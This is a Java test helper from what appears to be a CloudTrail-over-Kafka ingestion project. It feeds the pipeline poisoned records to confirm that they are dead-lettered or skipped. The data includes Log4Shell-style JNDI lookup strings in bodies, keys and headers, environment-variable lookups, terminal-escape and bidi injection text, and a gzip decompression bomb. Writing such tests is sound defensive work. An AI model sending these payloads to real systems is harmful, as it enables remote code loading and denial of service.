package io.sharetrail.cluster;

import io.sharetrail.cloudtrail.CodecLimits;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.zip.GZIPOutputStream;
import org.apache.kafka.common.header.Header;
import org.apache.kafka.common.header.internals.RecordHeader;

/**
 * Records that nobody asked for: garbage, bombs and lies, and what the job ought to make of each.
 */
final class Poison {

  private static final int EACH = 5;

  /** Before all that matters. */
  private static final String TIME = "2025-02-26T00:00:00Z";

  /** Latest time of those that mean nothing. */
  private static final Instant CLOSING = Instant.parse("2025-12-02T00:00:00Z");

  private static final int LARGE = 5_000_000;
  private static final int BOMB = 200 << 20;

  /** Parts of one record. */
  private static final int MANY = 100_000;

  private final Random random;
  private final Map<String, Long> letters = new TreeMap<>();
  private final Map<String, Long> skips = new TreeMap<>();
  private long records;
  private long events;
  private long clamped;
  private Topics topics;
  private String topic;
  private int partitions;
  private int closings;

  Poison(long seed) {
    random = new Random(seed);
  }

  /** How many dead letters of each reason it ought to make. */
  Map<String, Long> letters() {
    return letters;
  }

  long allLetters() {
    return letters.values().stream().mapToLong(Long::longValue).sum();
  }

  /** How many skips of each kind ought to be counted. */
  Map<String, Long> skips() {
    return skips;
  }

  /** How many records it is. */
  long records() {
    return records;
  }

  /** How many events they hold. */
  long events() {
    return events;
  }

  /** How many of these say that they are from the future. */
  long clamped() {
    return clamped;
  }

  /** Produces all of it, some of each kind into partitions by chance. */
  void into(Topics into, String name, int of) {
    topics = into;
    topic = name;
    partitions = of;
    for (int i = 0; i < EACH; i++) {
      garbage();
      lies();
      notices();
    }
    large();
    bombs();
  }

  /** And so many small ones. */
  void litter(int count) {
    for (int i = 0; i < count / 10; i++) {
      garbage();
    }
  }

  /** Ten. */
  private void garbage() {
    byte[] noise = new byte[300];
    random.nextBytes(noise);
    for (int i = 0; i < noise.length; i++) {
      noise[i] |= (byte) 0x80; // no compression begins so, nor JSON, and no line ends
    }
    letter("not-json", noise);
    letter("not-json", text("${jndi:ldap://192.0.2.1/" + random.nextInt() + "}"));
    letter("truncated", text("{\"eventVersion\":\"1.11\",\"userIdentity\":{\"type\":\"IAM"));
    letter("malformed-json", text("{\"eventVersion\":\"1.11\",,}"));
    letter("not-cloudtrail", text("{\"hello\":\"" + random.nextInt() + "\"}"));
    letter("wrong-type", text("{\"eventSource\":\"s\",\"eventName\":[" + random.nextInt() + "]}"));
    letter("too-deep", text("[".repeat(500) + "]".repeat(500)));
    skip("empty", null);
    skip("empty", new byte[0]);
    skip("empty", text(" \n"));
  }

  /** Events that say what cannot be, or what others may not read as it is. */
  private void lies() {
    event(event(TIME, "DescribeRegions", "${jndi:ldap://192.0.2.1/a}", "192.0.2.9"));
    event(event(TIME, "${jndi:ldap://192.0.2.1/a}", "curl", "${env:HOME}"));
    event(event(TIME, "Describe\\u0000\\u001b[31mRegions\\u202e", "\\u0007", "\\u0000"));
  }

  /** What is no API call. */
  private void notices() {
    skip("insight", text(event(TIME, "a", "b", "c").replace("\"Management\"", "\"Insight\"")));
    skip(
        "aggregated", text(event(TIME, "a", "b", "c").replace("\"Management\"", "\"Aggregated\"")));
    skip("digest", text("{\"digestStartTime\":\"2025-02-26T00:00:00Z\"}"));
    skip("s3-notification", text("{\"Event\":\"s3:TestEvent\"}"));
    skip("control-message", text("{\"messageType\":\"CONTROL_MESSAGE\",\"logEvents\":[]}"));
    skip("eventbridge-other", text("{\"detail-type\":\"EC2 State\",\"detail\":{}}"));
    skip("sns-confirmation", text("{\"Type\":\"SubscriptionConfirmation\",\"Message\":\"m\"}"));
  }

  /** Events of the year 2099. They move no time: what is behind them would be late. */
  void fromTheFuture() {
    for (int i = 0; i < EACH; i++) {
      event(event("2099-01-01T00:00:00Z", "DescribeRegions", "curl", "192.0.2.9"));
      clamped++;
    }
  }

  /** Lets every partition's time go on, behind which all that was counted is told. */
  void close() {
    closings++;
    for (int partition = 0; partition < partitions; partition++) {
      Instant time = CLOSING.plusSeconds(60L * closings);
      produce(partition, text(MixedTrail.closing(time)));
      events++;
    }
  }

  private static String event(String time, String name, String agent, String address) {
    return MixedTrail.closing(Instant.parse(time))
        .replace("\"DescribeRegions\"", "\"" + name + "\"")
        .replace("\"userAgent\":\"ec2.amazonaws.com\"", "\"userAgent\":\"" + agent + "\"")
        .replace(
            "\"sourceIPAddress\":\"ec2.amazonaws.com\"", "\"sourceIPAddress\":\"" + address + "\"");
  }

  private void large() {
    letter("malformed-json", text("{\"x\":" + "y".repeat(LARGE) + "}"));
    String agent = "curl/" + "z".repeat(LARGE);
    event(event(TIME, "DescribeRegions", agent, "192.0.2.9"));
  }

  /** What is small and becomes large: bytes, or dead letters. */
  private void bombs() {
    byte[] bomb = gzip(new byte[1 << 20], BOMB >> 20);
    letter("inflates-too-far", bomb);
    String data = Base64.getEncoder().encodeToString(bomb);
    letter("inflates-too-far", text("{\"awslogs\":{\"data\":\"" + data + "\"}}"));
    byte[] damaged = gzip(text(event(TIME, "DescribeRegions", "curl", "192.0.2.9")), 1);
    letter("damaged-compression", Arrays.copyOf(damaged, damaged.length / 2));

    letters.merge("not-json", (long) CodecLimits.DEFAULT.deadLettersPerRecord(), Long::sum);
    letter("rest-of-record", text("x\n".repeat(MANY)));
    letters.merge("wrong-type", (long) CodecLimits.DEFAULT.deadLettersPerRecord(), Long::sum);
    String bad = "{\"eventSource\":\"s\",\"eventName\":[]},";
    letter("rest-of-record", text("{\"Records\":[" + bad.repeat(MANY) + "null]}"));
  }

  private static byte[] gzip(byte[] bytes, int times) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      for (int i = 0; i < times; i++) {
        gzip.write(bytes);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return packed.toByteArray();
  }

  private void letter(String reason, byte[] value) {
    letters.merge(reason, 1L, Long::sum);
    produce(random.nextInt(partitions), value);
  }

  private void skip(String kind, byte[] value) {
    skips.merge(kind, 1L, Long::sum);
    produce(random.nextInt(partitions), value);
  }

  private void event(String event) {
    events++;
    produce(random.nextInt(partitions), text(event));
  }

  private void produce(int partition, byte[] value) {
    records++;
    topics.produce(topic, partition, key(), value, headers());
  }

  private String key() {
    return random.nextBoolean() ? null : "${jndi:ldap://192.0.2.1/key}\u0000";
  }

  /** Whoever writes a record chooses what stands beside it, and how often. */
  private List<Header> headers() {
    byte[] noise = new byte[40];
    random.nextBytes(noise);
    return switch (random.nextInt(5)) {
      case 0 -> List.of();
      case 1 -> List.of(new RecordHeader("", (byte[]) null));
      case 2 ->
          List.of(
              new RecordHeader("${jndi:ldap://192.0.2.1/header}\u0000\n", noise),
              new RecordHeader("content-encoding", text("gzip")),
              new RecordHeader("content-encoding", text("zstd")));
      case 3 ->
          List.of(
              new RecordHeader("traceparent", text("${jndi:ldap://192.0.2.1/header}")),
              new RecordHeader("eventTime", text("2099-01-01T00:00:00Z")));
      default -> Collections.nCopies(100, new RecordHeader("again", noise));
    };
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
